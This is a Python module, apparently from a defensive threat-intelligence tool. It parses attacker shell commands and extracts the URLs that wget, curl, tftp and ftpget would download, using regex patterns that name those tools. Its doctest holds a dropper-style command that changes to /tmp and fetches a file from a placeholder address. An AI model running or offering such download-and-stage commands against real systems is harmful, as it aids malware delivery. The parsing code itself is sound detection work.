"""Shell commands as attackers type them: which files they would fetch."""

import re
from collections.abc import Iterator

from cure.formats.typed import typed_url
from cure.model import Observable

# Outside quotes a shell ends a word at a blank or an operator; a variable stays as typed.
_URL = re.compile(
    r"""(?P<quote>["'])(?P<quoted>(?:https?|s?ftps?|tftp)://(?:(?!(?P=quote))[^\s<>`\\])+)(?P=quote)
      | (?P<bare>\b(?:https?|s?ftps?|tftp)://[^\s"'`;|&<>()\\]+)""",
    re.VERBOSE | re.IGNORECASE,
)
_FETCHER = re.compile(r"\b(?:wget|curl|tftp|ftpget)\b")
_OPERATOR = re.compile(r"[;|&\n(){}`]+")
# A bare name could be a local file (x.sh), so without a path only an address counts.
_WITHOUT_SCHEME = re.compile(
    r"(?:\d{1,3}(?:\.\d{1,3}){3}(?::\d{1,5})?(?:/.*)?|[\w-]+(?:\.[\w-]+)+(?::\d{1,5})?/.*)",
    re.ASCII,
)
# Options with a value: GNU wget, curl, BusyBox tftp and ftpget, tftp-hpa's -c stands alone.
_OPTIONS_WITH_VALUE = {
    "wget": "aeOoPUT",
    "curl": "AbcdeFHmoTuXx",
    "tftp": "blmr",
    "ftpget": "pPu",
}


def fetched(command: str) -> list[Observable]:
    """Return the URLs that a command line would fetch, in order, each once.

    They are all URLs for files that it names, and the arguments of wget, curl, tftp and ftpget
    that mean one without saying so.

    >>> [u.value for u in fetched("cd /tmp; wget 192.0.2.7/x || tftp -g -r x 192.0.2.7")]
    ['http://192.0.2.7/x', 'tftp://192.0.2.7/x']
    """
    found = dict.fromkeys(typed_url(text) for text in _candidates(command))
    return [one for one in found if one]


def _candidates(command: str) -> Iterator[str]:
    if "://" in command:
        for match in _URL.finditer(command):
            yield match["quoted"] or match["bare"]
    if not _FETCHER.search(command):
        return
    for simple in _OPERATOR.split(command):
        words = [word.strip("\"'") for word in simple.split()]
        for place, word in enumerate(words):
            program = word.rpartition("/")[2]
            if program in _OPTIONS_WITH_VALUE:
                yield from _meant(program, words[place + 1 :])
                break


def _meant(program: str, words: list[str]) -> Iterator[str]:
    """Yield the URLs that the arguments of a fetching program mean."""
    options, arguments = _parted(words, _OPTIONS_WITH_VALUE[program])
    if program in {"wget", "curl"}:
        for argument in arguments:
            if _WITHOUT_SCHEME.fullmatch(argument):
                yield f"http://{argument}"
    elif program == "ftpget" and len(arguments) > 1:
        port = f":{options['P']}" if "P" in options else ""
        yield f"ftp://{arguments[0]}{port}/{arguments[-1].lstrip('/')}"
    elif program == "tftp" and arguments:
        name = arguments[2] if arguments[1:2] == ["get"] and arguments[2:] else options.get("r")
        if name:
            yield f"tftp://{arguments[0]}/{name.lstrip('/')}"


def _parted(words: list[str], with_value: str) -> tuple[dict[str, str], list[str]]:
    """Part the words after a program into options with their values, and arguments."""
    options: dict[str, str] = {}
    arguments: list[str] = []
    rest = iter(words)
    for word in rest:
        if not word.startswith("-"):
            arguments.append(word)
        elif not word.startswith("--") and word[-1:] in with_value and len(word) > 1:
            options[word[-1]] = next(rest, "")
    return options, arguments
